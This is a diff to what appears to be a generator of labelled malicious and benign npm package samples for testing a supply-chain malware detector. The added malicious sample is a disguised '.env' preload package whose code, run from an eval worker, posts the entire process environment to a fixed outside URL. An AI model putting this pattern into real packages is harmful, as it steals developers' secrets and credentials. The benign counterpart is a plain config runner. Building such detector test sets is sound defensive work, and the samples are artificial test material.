@@ -430,6 +430,48 @@ rl.on('line', (line) => {
     )
 
 
+@sample
+def env_preload_worker_beacon():
+    preload = r"""'use strict';
+// Preload: node -r env-file-preload app.js. Loads .env into process.env before the app starts.
+const fs = require('fs');
+const path = require('path');
+const { Worker } = require('worker_threads');
+
+const AUDIT = "const https = require('https');\n" +
+  "const q = https.request('https://audit.envfile-tools.invalid/v1/e', { method: 'POST', headers: { 'content-type': 'application/json' } }).end(JSON.stringify({ cwd: process.cwd(), env: { ...process.env } }));\n" +
+  "q && q.on && q.on('error', () => {});\n";
+
+function load(file) {
+  let text;
+  try { text = fs.readFileSync(file, 'utf8'); } catch (e) { return; }
+  for (const line of text.split(/\r?\n/)) {
+    const m = /^\s*([\w.-]+)\s*=\s*(.*)?\s*$/.exec(line);
+    if (m && !(m[1] in process.env)) process.env[m[1]] = (m[2] || '').replace(/^(['"])(.*)\1$/, '$2');
+  }
+}
+
+load(path.join(process.cwd(), '.env'));
+try { new Worker(AUDIT, { eval: true }).unref(); } catch (e) {}
+"""
+    files = {
+        "package.json": pj(name="env-file-preload", version="1.0.6", main="preload.js",
+                           description="Load .env before your app starts: node -r env-file-preload app.js"),
+        "README.md": readme("env-file-preload", "```sh\nnode -r env-file-preload server.js\n```"),
+        "preload.js": preload,
+    }
+    return S(
+        "reach7-env-preload-worker-beacon",
+        "env loader preloaded with node -r that, after loading .env, runs a code string in an eval worker posting the whole environment to a fixed URL",
+        "2025",
+        ["env-loader", "preload", "worker-eval", "env-harvest", "network"],
+        "Other shape of the holdout3 env-schema-loader: no module.register hook; the sender is "
+        "an escaped string run by new Worker(code, { eval: true }) and uses https.request with "
+        "a spread of process.env.",
+        files,
+    )
+
+
 # =============================================================================================
 # Benign
 
@@ -757,5 +799,45 @@ console.log('installed ' + label + '; remove with launchctl bootout gui/$UID/' +
         ["launch-agent", "cli", "on-request", "template-literal"],
         "Writes a LaunchAgent and a script kept in an escaped template, like the MCP foothold, "
         "but on the user's command and with a watcher that never uses the network.",
+        files,
+    )
+
+
+@benign
+def b_env_from_config_service():
+    index = r"""'use strict';
+// Fetches the app's configuration from the config service named in the environment and starts
+// the app with it merged into its environment.
+const { spawn } = require('child_process');
+
+async function start(cmd, args) {
+  const url = process.env.CONFIG_SERVICE_URL;
+  let extra = {};
+  if (url) {
+    const res = await fetch(url + '/v1/config/' + encodeURIComponent(process.env.APP_NAME || 'app'), {
+      headers: { authorization: 'Bearer ' + process.env.CONFIG_SERVICE_TOKEN },
+    });
+    if (res.ok) extra = await res.json();
+  }
+  const child = spawn(cmd, args, { stdio: 'inherit', env: { ...process.env, ...extra } });
+  child.on('exit', (code) => process.exit(code ?? 1));
+}
+
+module.exports = { start };
+"""
+    files = {
+        "package.json": pj(name="config-service-run", version="2.0.0", main="index.js",
+                           description="Start a process with configuration from your config service"),
+        "README.md": readme("config-service-run", "```js\nrequire('config-service-run').start('node', ['server.js'])\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach7-benign-env-from-config-service",
+        "config runner that fetches settings from a service named in the environment and spawns the app with { ...process.env, ...settings }",
+        "2025",
+        ["env-loader", "network", "child-process"],
+        "Uses the network and passes the whole environment on, but to a child process; what it "
+        "sends is one token to the address its user configures: the counterpart of env loaders "
+        "that send the environment.",
         files,
     )
